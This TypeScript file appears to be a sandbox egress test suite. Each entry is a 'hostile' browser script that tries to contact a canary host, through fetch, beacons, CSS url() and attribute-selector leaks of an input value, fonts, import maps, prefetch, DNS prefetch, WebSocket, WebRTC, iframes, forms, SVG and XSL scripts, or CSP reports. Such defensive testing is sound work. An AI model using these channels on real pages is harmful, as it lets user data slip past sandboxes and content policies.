import { webrtc, type Hostile } from './panel';

/** Panels that send data out. */
export const network: Record<string, Hostile | string> = {
  fetch: `
    await fetch(C + '/fetch').then(
      () => won('fetch'),
      () => {},
    );
    await fetch(N + '/fetch').catch(() => {});
    await fetch(C + '/nocors', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {});
  `,
  xhr: `
    const x = new XMLHttpRequest();
    x.open('GET', C + '/xhr');
    x.onload = () => won('xhr');
    try {
      x.send();
    } catch {}
    await wait(150);
  `,
  beacon: `try { navigator.sendBeacon(C + '/beacon', 'x'); } catch {} await wait(150);`,
  keepalive: {
    script: `
      addEventListener('pagehide', () => {
        fetch(C + '/late', { keepalive: true }).catch(() => {});
        navigator.sendBeacon(C + '/late2');
      });
      location.reload();
    `,
    gone: true,
  },
  image: `
    put('img', { src: C + '/img', srcset: C + '/img2 2x' });
    put('picture', {}).innerHTML = '<source srcset="' + C + '/src"><img src="' + C + '/x">';
    await wait(150);
  `,
  'image-input': `
    put('input', { type: 'image', src: C + '/input' });
    put('body', { background: C + '/bg' });
    await wait(150);
  `,
  media: `
    put('video', { src: C + '/video', poster: C + '/poster', preload: 'auto' });
    put('audio', { src: C + '/audio', preload: 'auto' });
    put('video', {}).innerHTML = '<source src="' + C + '/s"><track default src="' + C + '/track">';
    await wait(200);
  `,
  style: `
    put(
      'style',
      {},
      '@import "' +
        C +
        '/import.css"; body{background:url(' +
        C +
        '/bg);cursor:url(' +
        C +
        '/cursor),auto} p:after{content:url(' +
        C +
        '/content)}',
    );
    put('p', {});
    put('link', { rel: 'stylesheet', href: C + '/sheet.css' });
    await wait(200);
  `,
  'style-attributes': `
    put('input', { value: 'secret' });
    put(
      'style',
      {},
      'input[value^="s"]{background:image-set("' +
        C +
        '/s" 1x);mask:url(' +
        C +
        '/mask#x);filter:url(' +
        C +
        '/filter#x);border-image:url(' +
        C +
        '/b) 1}',
    );
    await wait(200);
  `,
  font: `
    put('style', {}, '@font-face{font-family:x;src:url(' + C + '/font.woff2)} body{font-family:x}');
    put('p', {}, 'x');
    try {
      await new FontFace('y', 'url(' + C + '/face)').load();
      won('font');
    } catch {}
    await wait(100);
  `,
  script: `
    put('script', { src: C + '/script.js' });
    await import(C + '/module.js').then(
      () => won('module'),
      () => {},
    );
  `,
  'import-map': `
    put('script', { type: 'importmap' }, JSON.stringify({ imports: { evil: C + '/mapped.js' } }));
    await import('evil').then(
      () => won('import map'),
      () => {},
    );
  `,
  prefetch: `
    for (const rel of [
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'next',
      'icon',
      'manifest',
      'apple-touch-icon',
      'search',
      'alternate stylesheet',
    ])
      for (const as of ['image', 'script', 'fetch', 'document'])
        put('link', { rel, as, href: C + '/' + rel }, '', document.head);
    await wait(300);
  `,
  preconnect: `
    put('link', { rel: 'preconnect', href: C }, '', document.head);
    put('link', { rel: 'preconnect', href: N, crossorigin: '' }, '', document.head);
    await wait(300);
  `,
  'preconnect-markup': {
    html: `<!doctype html><link rel="preconnect" href="{{C}}"><link rel="preconnect" href="{{N}}"><p>x`,
    gone: true,
  },
  'dns-prefetch': `
    put('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, '', document.head);
    put('link', { rel: 'dns-prefetch', href: '//secret.canary.invalid' }, '', document.head);
    put('link', { rel: 'dns-prefetch', href: N }, '', document.head);
    await wait(200);
  `,
  'speculation-rules': `
    put(
      'script',
      { type: 'speculationrules' },
      JSON.stringify({
        prefetch: [{ urls: [C + '/spec'], eagerness: 'immediate' }],
        prerender: [{ urls: [C + '/spec2'], eagerness: 'immediate' }],
      }),
    );
    await wait(300);
  `,
  websocket: `
    try {
      const w = new WebSocket(C.replace('http', 'ws') + '/ws');
      w.onopen = () => won('websocket');
    } catch {}
    try {
      new WebSocket(S.replace('http', 'ws') + '/ws').onopen = () => won("the window's socket");
    } catch {}
    await wait(250);
  `,
  eventsource: `try { new EventSource(C + '/events').onopen = () => won('events'); } catch {} await wait(150);`,
  webrtc: webrtc + 'await wait(300);',
  webtransport: `
    try {
      const t = new WebTransport(C.replace('http:', 'https:') + '/wt');
      t.ready.then(
        () => won('webtransport'),
        () => {},
      );
    } catch {}
    await wait(250);
  `,
  object: `
    put('object', { data: C + '/object' });
    put('embed', { src: C + '/embed' });
    put('object', { data: 'data:text/html,<img src=' + C + '/o>', type: 'text/html' });
    await wait(250);
  `,
  frame: `
    put('iframe', { src: C + '/frame' });
    put('iframe', { src: 'data:text/html,<img src=' + C + '/f2>' });
    put('iframe', { src: 'javascript:"<img src=' + C + '/f3>"' });
    put('iframe', { src: S + '/' });
    await wait(300);
  `,
  form: `
    for (const method of ['get', 'post'])
      for (const target of ['_self', '_top', '_blank', 'x']) {
        const f = put('form', { action: C + '/form', method, target });
        try {
          f.submit();
        } catch {}
      }
    await wait(300);
  `,
  'form-button': `
    const f = put('form', { action: '#' });
    const b = put('button', { formaction: C + '/formaction', formmethod: 'post' }, 'x', f);
    b.click();
    await wait(200);
  `,
  'svg-script': {
    html: `<!doctype html><img src="x.svg"><svg><use href="{{C}}/use#x"/><image href="{{C}}/svgimg"/>
      <script href="{{C}}/svg.js"></script><feImage href="{{C}}/fe"/></svg><iframe src="x.svg"></iframe>`,
    files: {
      'x.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="{{C}}/in-svg"/>
        <script>fetch('{{C}}/svg-script')</script></svg>`,
    },
    gone: true,
  },
  'svg-document': {
    script: `location = 'x.svg';`,
    files: {
      'x.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="{{C}}/doc"/>
        <script>fetch('{{C}}/svg-doc'); parent.postMessage({ sextant: 'hello' }, '*');</script></svg>`,
    },
    gone: true,
  },
  'xml-style': {
    script: `location = 'x.xml';`,
    files: { 'x.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{{C}}/x.xsl"?><a/>` },
    gone: true,
  },
  'mime-tricks': {
    script: `
      put('script', { src: 'data.bin' });
      put('script', { src: 'page.txt' });
      put('link', { rel: 'stylesheet', href: 'page.txt' });
      await wait(200);
      if (window.ran) won('bytes ran as script');
    `,
    files: { 'data.bin': 'window.ran = 1', 'page.txt': 'window.ran = 1' },
  },
  'report-uri': {
    html: `<!doctype html>
      <meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {{C}}/report; report-to x">
      <meta http-equiv="Report-To" content='{"group":"x","max_age":1,"endpoints":[{"url":"{{C}}/r"}]}'>
      <img src="x.png">`,
    gone: true,
  },
  'own-policy': {
    html: `<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src *; connect-src *">
      <script>fetch('{{C}}/own-policy')</script>`,
    gone: true,
  },
  worklets: `
    try {
      await CSS.paintWorklet.addModule(C + '/paint');
      won('worklet');
    } catch {}
    try {
      await new AudioContext().audioWorklet.addModule(C + '/audio');
      won('worklet');
    } catch {}
  `,
};
